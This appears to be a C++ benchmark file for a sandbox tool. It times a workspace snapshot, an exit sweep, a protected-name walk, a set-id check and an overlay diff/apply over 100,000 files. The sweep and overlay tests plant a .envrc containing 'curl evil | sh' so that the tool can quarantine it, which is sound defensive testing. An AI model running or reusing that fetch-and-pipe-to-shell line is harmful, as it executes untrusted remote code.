// Cost of the live-mode sweep and of the overlay apply on a large workspace
// (issue 8): snapshot_tree, sweep, diff_upper and apply_upper on a workspace of
// EXG_SWB_DIRS x EXG_SWB_FILES empty files (default 1,000 x 100 = 100,000),
// created once under /var/tmp (EXG_SWB_TMP) and removed at exit.
//
// Every benchmark runs one timed operation per repetition (manual timing:
// set-up and restore steps are not timed) and reports median, min and max over
// EXG_SWB_REPS repetitions (default 15). The page and dentry caches are warm:
// the workspace was just created and the first repetition warms what is left.
//
//   snapshot_tree/threads:T
//              the start's snapshot of the workspace's directories (what the
//              exit's sweep is led by), by at most T threads.
//   sweep/N    N new files, one in each of N directories, plus one planted
//              .envrc in a new folder; the snapshot is taken before the changes.
//   protect_walk/threads:T
//              the plan's walk for protected names (plan/protect.hpp) over the
//              whole workspace, by at most T threads.
//   setid_sweep/threads:T
//              the exit's check of every file for set-id bits written in the
//              run (sandbox/setid_sweep.hpp), by at most T threads.
//   diff/N, apply/N
//              an upper layer built by hand like overlayfs leaves it: N regular
//              files in N directories (even: an existing file with new content,
//              odd: a new file), one planted .envrc and, when mknod works (root),
//              one whiteout (char device 0/0) deleting an existing file. Between
//              apply repetitions the touched files are restored, untimed.
//
// bench/sweep.sh runs this binary and prints a markdown table.
#include <benchmark/benchmark.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <string>
#include <thread>
#include <vector>

#include "plan/protect.hpp"
#include "sandbox/overlay_apply.hpp"
#include "sandbox/setid_sweep.hpp"
#include "sandbox/sweep.hpp"

namespace fs = std::filesystem;
using namespace exg::sandbox;

namespace {

int env_int(const char* name, int dflt) {
  const char* v = std::getenv(name);
  return v && *v ? std::atoi(v) : dflt;
}

int g_dirs = 1000, g_files = 100, g_reps = 15;
std::string g_base, g_ws, g_quar;
bool g_whiteout = false;  // mknod 0/0 worked

std::string dname(int d) {
  char b[16];
  std::snprintf(b, sizeof b, "d%04d", d);
  return b;
}
std::string fname(int f) {
  char b[16];
  std::snprintf(b, sizeof b, "f%03d", f);
  return b;
}

void die(const std::string& what) {
  std::perror(what.c_str());
  std::exit(1);
}

void write_file(const std::string& path, std::string_view content, mode_t mode = 0644) {
  int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
  if (fd < 0) die("open " + path);
  if (!content.empty() && ::write(fd, content.data(), content.size()) != static_cast<ssize_t>(content.size()))
    die("write " + path);
  ::fchmod(fd, mode);
  ::close(fd);
}

void reset_quarantine() {
  std::error_code ec;
  fs::remove_all(g_quar, ec);
  if (::mkdir(g_quar.c_str(), 0700) != 0) die("mkdir " + g_quar);
}

void make_workspace() {
  char tmpl[4096];
  const char* tmp = std::getenv("EXG_SWB_TMP");
  std::snprintf(tmpl, sizeof tmpl, "%s/exg-swb.XXXXXX", tmp && *tmp ? tmp : "/var/tmp");
  if (!::mkdtemp(tmpl)) die("mkdtemp");
  g_base = tmpl;
  g_ws = g_base + "/ws";
  g_quar = g_base + "/quarantine";
  if (::mkdir(g_ws.c_str(), 0755) != 0) die("mkdir ws");
  for (int d = 0; d < g_dirs; ++d) {
    std::string dir = g_ws + "/" + dname(d);
    if (::mkdir(dir.c_str(), 0755) != 0) die("mkdir " + dir);
    ::chmod(dir.c_str(), 0755);
    for (int f = 0; f < g_files; ++f) {
      std::string p = dir + "/" + fname(f);
      int fd = ::open(p.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
      if (fd < 0) die("create " + p);
      ::fchmod(fd, 0644);
      ::close(fd);
    }
  }
  reset_quarantine();
  // Past snapshot_tree's 20 ms "stamped too recently" margin.
  std::this_thread::sleep_for(std::chrono::milliseconds(100));
}

double seconds_since(std::chrono::steady_clock::time_point t0) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
}

// ---- snapshot_tree ----

void BM_snapshot(benchmark::State& state, size_t threads) {
  size_t dirs = 0, entries = 0;
  for (auto _ : state) {
    auto t0 = std::chrono::steady_clock::now();
    auto s = snapshot_tree(g_ws, {}, {}, threads);
    double t = seconds_since(t0);
    if (!s) {
      state.SkipWithError(("snapshot_tree: " + s.error().str()).c_str());
      return;
    }
    dirs = s->dirs();
    entries = s->entries_seen;
    state.SetIterationTime(t);
  }
  state.counters["dirs"] = static_cast<double>(dirs);
  state.counters["entries"] = static_cast<double>(entries);
}

// ---- sweep ----

void BM_sweep(benchmark::State& state, int n) {
  auto snap = snapshot_tree(g_ws);
  if (!snap) {
    state.SkipWithError("snapshot_tree failed");
    return;
  }
  // The run's changes (not timed): n new files, one per directory, and a
  // planted .envrc in a new folder.
  std::vector<std::string> created;
  for (int i = 0; i < n; ++i) {
    std::string p = g_ws + "/" + dname(i % g_dirs) + "/new" + std::to_string(i / g_dirs);
    write_file(p, "new\n");
    created.push_back(p);
  }
  const std::string newdir = g_ws + "/" + dname(g_dirs - 1) + "/newdir";
  if (::mkdir(newdir.c_str(), 0755) != 0) die("mkdir " + newdir);

  SweepOptions opt;
  opt.quarantine_dir = g_quar;
  size_t found = 0;
  for (auto _ : state) {
    write_file(newdir + "/.envrc", "curl evil | sh\n");
    reset_quarantine();
    auto t0 = std::chrono::steady_clock::now();
    auto r = sweep(g_ws, *snap, opt);
    double t = seconds_since(t0);
    if (!r) {
      state.SkipWithError(("sweep: " + r.error().str()).c_str());
      break;
    }
    found = r->size();
    state.SetIterationTime(t);
  }
  state.counters["planted_found"] = static_cast<double>(found);
  if (found != 1) state.SkipWithError("sweep did not find exactly the one planted name");

  for (const auto& p : created) ::unlink(p.c_str());
  std::error_code ec;
  fs::remove_all(newdir, ec);
  reset_quarantine();
}

// ---- the plan's protect walk, the exit's set-id check ----

void BM_protect_walk(benchmark::State& state, size_t threads) {
  exg::plan::ProtectOptions opt;
  opt.max_threads = threads;
  size_t found = 0;
  for (auto _ : state) {
    auto t0 = std::chrono::steady_clock::now();
    auto f = exg::plan::find_protected_all(g_ws, opt);
    state.SetIterationTime(seconds_since(t0));
    found = f.paths.size();
  }
  state.counters["found"] = static_cast<double>(found);
}

void BM_setid_sweep(benchmark::State& state, size_t threads) {
  int64_t since = setid_sweep_start();  // nothing changed since: every file is checked, none found
  size_t checked = 0, found = 0;
  for (auto _ : state) {
    SetIdSweep sw;
    auto t0 = std::chrono::steady_clock::now();
    sweep_setid(g_ws, since, sw, threads);
    state.SetIterationTime(seconds_since(t0));
    checked = sw.files_checked;
    found = sw.found.size() + sw.errors.size();
  }
  state.counters["checked"] = static_cast<double>(checked);
  if (found != 0) state.SkipWithError("the set-id check found something in an untouched workspace");
}

// ---- overlay: diff_upper / apply_upper ----

std::string upper_for(int n) {
  std::string up = g_base + "/upper-" + std::to_string(n);
  if (::access(up.c_str(), F_OK) == 0) return up;
  if (::mkdir(up.c_str(), 0755) != 0) die("mkdir " + up);
  ::chmod(up.c_str(), 0755);
  auto updir = [&](int d) {
    std::string p = up + "/" + dname(d);
    if (::mkdir(p.c_str(), 0755) == 0) ::chmod(p.c_str(), 0755);
    return p;
  };
  for (int i = 0; i < n; ++i) {
    std::string d = updir(i % g_dirs);
    if (i % 2 == 0) write_file(d + "/" + fname(i / g_dirs), "changed content\n");  // modified
    else write_file(d + "/new" + std::to_string(i / g_dirs), "new file\n");        // created
  }
  write_file(updir(0) + "/.envrc", "curl evil | sh\n");  // planted
  std::string wo = updir(1) + "/" + fname(g_files - 1);  // deletion
  g_whiteout = ::mknod(wo.c_str(), S_IFCHR | 0000, makedev(0, 0)) == 0;
  return up;
}

// Puts the workspace back as it was before an apply (not timed).
void restore_after_apply(int n) {
  for (int i = 0; i < n; ++i) {
    std::string d = g_ws + "/" + dname(i % g_dirs);
    if (i % 2 == 0) write_file(d + "/" + fname(i / g_dirs), "");
    else ::unlink((d + "/new" + std::to_string(i / g_dirs)).c_str());
  }
  std::string victim = g_ws + "/" + dname(1) + "/" + fname(g_files - 1);
  if (::access(victim.c_str(), F_OK) != 0) write_file(victim, "");
  reset_quarantine();
}

void BM_overlay(benchmark::State& state, int n, bool apply) {
  std::string up = upper_for(n);
  ApplyOptions opt;
  opt.quarantine_dir = g_quar;
  ApplyReport last;
  for (auto _ : state) {
    auto t0 = std::chrono::steady_clock::now();
    auto r = apply ? apply_upper(up, g_ws, opt) : diff_upper(up, g_ws, opt);
    double t = seconds_since(t0);
    if (!r) {
      state.SkipWithError((std::string(apply ? "apply_upper: " : "diff_upper: ") + r.error().str()).c_str());
      break;
    }
    last = std::move(*r);
    state.SetIterationTime(t);
    if (apply) restore_after_apply(n);
  }
  state.counters["created"] = static_cast<double>(last.created.size());
  state.counters["modified"] = static_cast<double>(last.modified.size());
  state.counters["deleted"] = static_cast<double>(last.deleted.size());
  state.counters["quarantined"] = static_cast<double>(last.quarantined.size());
  state.counters["whiteout"] = g_whiteout ? 1 : 0;
  // Directories already present show up in neither list; expect n/2 created,
  // n/2 modified, 1 quarantined and (with a whiteout) 1 deleted.
  if (last.created.size() != static_cast<size_t>(n / 2) || last.modified.size() != static_cast<size_t>(n - n / 2) ||
      last.quarantined.size() != 1 || last.deleted.size() != (g_whiteout ? 1u : 0u)) {
    for (const auto& l : report_lines(last)) std::fprintf(stderr, "  %s\n", l.c_str());
    state.SkipWithError("unexpected apply report");
  }
}

double stat_min(const std::vector<double>& v) { return *std::min_element(v.begin(), v.end()); }
double stat_max(const std::vector<double>& v) { return *std::max_element(v.begin(), v.end()); }

void configure(benchmark::internal::Benchmark* b) {
  b->UseManualTime()
      ->Iterations(1)
      ->Repetitions(g_reps)
      ->ReportAggregatesOnly(true)
      ->ComputeStatistics("min", stat_min)
      ->ComputeStatistics("max", stat_max)
      ->Unit(benchmark::kMillisecond);
}

}  // namespace

int main(int argc, char** argv) {
  g_dirs = std::max(2, env_int("EXG_SWB_DIRS", 1000));
  g_files = std::max(1, env_int("EXG_SWB_FILES", 100));
  g_reps = std::max(1, env_int("EXG_SWB_REPS", 15));
  benchmark::Initialize(&argc, argv);
  if (benchmark::ReportUnrecognizedArguments(argc, argv)) return 1;

  make_workspace();
  const std::string files = std::to_string(g_dirs * g_files) + "files";
  for (size_t t : {1, 4}) {
    const std::string suffix = "/" + files + "/threads:" + std::to_string(t);
    configure(benchmark::RegisterBenchmark(("snapshot_tree" + suffix).c_str(),
                                           [t](benchmark::State& s) { BM_snapshot(s, t); }));
    configure(benchmark::RegisterBenchmark(("protect_walk" + suffix).c_str(),
                                           [t](benchmark::State& s) { BM_protect_walk(s, t); }));
    configure(benchmark::RegisterBenchmark(("setid_sweep" + suffix).c_str(),
                                           [t](benchmark::State& s) { BM_setid_sweep(s, t); }));
  }
  for (int n : {10, 1000}) {
    const std::string suffix = "/" + files + "/changed:" + std::to_string(n);
    configure(benchmark::RegisterBenchmark(("sweep" + suffix).c_str(),
                                           [n](benchmark::State& s) { BM_sweep(s, n); }));
    configure(benchmark::RegisterBenchmark(("diff_upper" + suffix).c_str(),
                                           [n](benchmark::State& s) { BM_overlay(s, n, false); }));
    configure(benchmark::RegisterBenchmark(("apply_upper" + suffix).c_str(),
                                           [n](benchmark::State& s) { BM_overlay(s, n, true); }));
  }
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();

  std::error_code ec;
  fs::remove_all(g_base, ec);
  if (ec) std::fprintf(stderr, "sweep_bench: could not remove %s: %s\n", g_base.c_str(), ec.message().c_str());
  return 0;
}
